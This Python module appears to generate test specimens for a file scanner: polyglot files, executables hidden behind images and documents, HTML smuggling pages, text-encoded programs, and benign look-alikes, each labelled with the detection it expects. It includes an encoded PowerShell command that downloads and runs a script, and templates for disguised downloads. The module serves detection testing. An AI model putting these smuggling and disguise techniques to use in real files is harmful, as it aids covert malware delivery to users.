"""Files that are two things at once, and programs carried in other files, in texts, by pages."""

import base64

from samples import builders as b
from samples.specimen import Specimen

EMBEDDED, POLYGLOT, SCRIPT = ("embedded.executable",), ("disguise.polyglot",), ("container.script",)
PAGE = "text/html"
DISC_MARK = 32_769


def disc(system_area: bytes = b"") -> bytes:
    """Return 40 KiB with the mark of a disc image, behind an area that is free for anything."""
    return system_area.ljust(DISC_MARK, b"\0") + b"CD001\x01" + bytes(8192)


def pieces(text: bytes, size: int, between: bytes) -> bytes:
    return between.join(text[at : at + size] for at in range(0, len(text), size))


def page(script: bytes) -> bytes:
    return b"<!DOCTYPE html>\n<html><body><script>" + script + b"</script></body></html>\n"


def delivery(literal: bytes) -> bytes:
    """Return a page that would make a download of what `literal` decodes to."""
    return page(
        b"var d = " + literal + b"; var f = new Blob([Uint8Array.from(atob(d))]);"
        b"link.href = URL.createObjectURL(f); link.download = 'photos';"
    )


def spellings(data: bytes) -> dict[str, bytes]:
    """Return scripts that would make a program of a text, by how it is spelled there."""
    letters = base64.b64encode(data)
    stream = b'"\r\nCreateObject("ADODB.Stream")\r\n'
    return {
        "joined.vbs": b's = "' + pieces(letters, 50, b'"\r\ns = s & "') + stream,
        "joined.js": b'var s = "' + pieces(letters, 40, b'" +\n  "') + b'"; atob(s);\n',
        "backwards.ps1": b"$s = '" + letters[::-1] + b"'\n[Convert]::FromBase64String($s)\n",
        "echo.bat": b"echo "
        + pieces(letters, 64, b">>a.txt\r\necho ")
        + b">>a.txt\r\ncertutil -decode a.txt a.dat\r\n",
        "hex.ps1": b"$s = '" + data.hex().encode() + b"'\n[byte[]]$b = unhex $s\n",
        "hex-list.ps1": b"[byte[]]$b = " + b",".join(b"0x%x" % byte for byte in data) + b"\n",
        "numbers.js": b"new Uint8Array([" + b", ".join(b"%d" % byte for byte in data) + b"]);\n",
        "chr.vbs": b's = "" & ' + b" & ".join(b"Chr(%d)" % byte for byte in data) + stream[1:],
        "trusted.crt": b"-----BEGIN CERTIFICATE-----\n"
        + base64.encodebytes(data)
        + b"-----END CERTIFICATE-----\n",
    }


def polyglots() -> tuple[Specimen, ...]:
    zipped = b.zip_of({"readme.txt": b"Look at this."})
    tag = b"<script>document.title = 1</script>"
    return (
        Specimen("holiday2.gif", b.gif() + b.pe(), "image/gif", expected=EMBEDDED,
                 about="A program behind a picture."),
        Specimen("manual2.pdf", b.pdf() + b.elf(), "application/pdf", expected=EMBEDDED,
                 about="A program behind a document."),
        Specimen("clip3.mp4", b.mp4() + b.lnk(), "video/mp4", expected=EMBEDDED,
                 about="A shortcut behind a film."),
        Specimen("firmware.bin", b"\x93\x81\x01\x99" * 4 + b.pe(), expected=EMBEDDED,
                 about="A few bytes before a program, so that it begins like nothing known."),
        Specimen("tail.zip", zipped + b.pe(), "application/zip",
                 expected=(*EMBEDDED, "archive.ambiguous"),
                 about="A program behind the end of an archive."),
        Specimen("gifar.gif", b.gif() + zipped, "image/gif", expected=POLYGLOT,
                 about="A picture that ends as an archive: GIFAR, with harmless members."),
        Specimen("photo2.jpg", b.jpeg() + b.gzip(b"text"), "image/jpeg", expected=POLYGLOT,
                 about="Packed data behind a picture."),
        Specimen("comment.jpg", b.jpeg(b"<?php phpinfo(); ?>"), "image/jpeg", expected=POLYGLOT,
                 about="A script of a server in the comment of a picture."),
        Specimen("page.png", b.png() + b"<html>" + tag, "image/png", expected=POLYGLOT,
                 about="A page behind a picture: mshta looks for its first tag."),
        Specimen("signed.exe", b.pe() + b"<html>" + tag, expected=POLYGLOT,
                 about="The same behind a program, whose signature need not mind."),
        Specimen("script.gif", b"GIF89a/*" + bytes(99) + b"*/=1;alert(1);", "image/gif",
                 expected=POLYGLOT, about="The magic of a picture is a name in JavaScript."),
        Specimen("page-or.pdf", b"<html>" + tag + b.pdf(), "application/pdf", expected=POLYGLOT,
                 about="A PDF whose header is not at the start is a page for browsers."),
        Specimen("disc.exe", disc(b.pe()), expected=(*POLYGLOT, "unscanned.malformed"),
                 about="A program in the free area of a disc image."),
        Specimen("tape.gif", b.tar_of({"GIF89a": b"text"}), "image/gif", expected=POLYGLOT,
                 about="A tar archive whose first name begins as a picture does."),
    )  # fmt: skip


def smuggled() -> tuple[Specimen, ...]:
    archive = b.zip_of({"photos.exe": b.pe()})
    letters = base64.b64encode(archive)
    noise = base64.b64encode(b"\x93\x81\x01\x99" * 2000)
    command = base64.b64encode(
        "IEX (New-Object Net.WebClient).DownloadString('x')".encode("utf-16-le")
    )
    return (
        Specimen("album.html", delivery(b"'" + letters + b"'"), PAGE, expected=SCRIPT,
                 about="A page that makes an archive with a program of its own text."),
        Specimen("album2.html", delivery(b"'" + pieces(letters, 30, b"' + '") + b"'"), PAGE,
                 expected=SCRIPT, about="The same in pieces."),
        Specimen("album3.html", delivery(b"'" + letters[::-1] + b"'"), PAGE, expected=SCRIPT,
                 about="The same backwards."),
        Specimen("album.svg", b"<svg xmlns='http://www.w3.org/2000/svg'>"
                 + delivery(b"[" + b",".join(b"%d" % byte for byte in archive) + b"]")[22:],
                 "image/svg+xml", expected=SCRIPT, about="The same as numbers, in a drawing."),
        Specimen("album4.html", delivery(b"'" + noise + b"'"), PAGE, expected=SCRIPT,
                 about="A page that is hardly more than data which no reader knows."),
        Specimen("update.bat", b"@echo off\r\npowershell -nop -enc " + command + b"\r\n",
                 expected=SCRIPT, about="A command in base64 that fetches and runs a script."),
        *(
            Specimen(name, text, expected=EMBEDDED, about="A program spelled as text.")
            for name, text in spellings(b.pe()).items()
        ),
    )  # fmt: skip


def near_smuggling() -> tuple[Specimen, ...]:
    """Files with more than one thing in them for good reasons."""
    table = base64.b64encode(b.png() * 80)
    trailer = b"SEFT" + b"\x93\x81\x01\x99" * 40
    return (
        Specimen("motion.jpg", b.jpeg() + b.mp4(), "image/jpeg", about="A photo with its film."),
        Specimen("stereo.jpg", b.jpeg() + b.jpeg(), "image/jpeg", about="Two pictures in one."),
        Specimen("trailer.jpg", b.jpeg() + trailer, "image/jpeg", about="What cameras append."),
        Specimen("newline.png", b.png() + b"\n", "image/png", about="A line break too many."),
        Specimen("installer.exe", b.pe() + b"\x93\x81\x01\x99" * 99, about="Data of an installer."),
        Specimen("image.bin", b"\x93\x81\x01\x99" * 3000 + b.pe(), about="A program in firmware."),
        Specimen("late.pdf", b"\r\n" + b.pdf(), "application/pdf", about="A line before a PDF."),
        Specimen("export.html", page(
            b"var f = new Blob([table]); a.href = URL.createObjectURL(f); a.download = 'a.csv';"
        ), PAGE, about="A page that offers its table as a file."),
        Specimen("icons.html", delivery(b"'" + table + b"'"), PAGE, about="Pictures in a script."),
        Specimen("interface.json", b'{"file": "' + base64.b64encode(b.pe()) + b'"}',
                 "application/json", about="A program on its way through an interface."),
    )  # fmt: skip


def smuggling_specimens() -> tuple[Specimen, ...]:
    return polyglots() + smuggled() + near_smuggling()
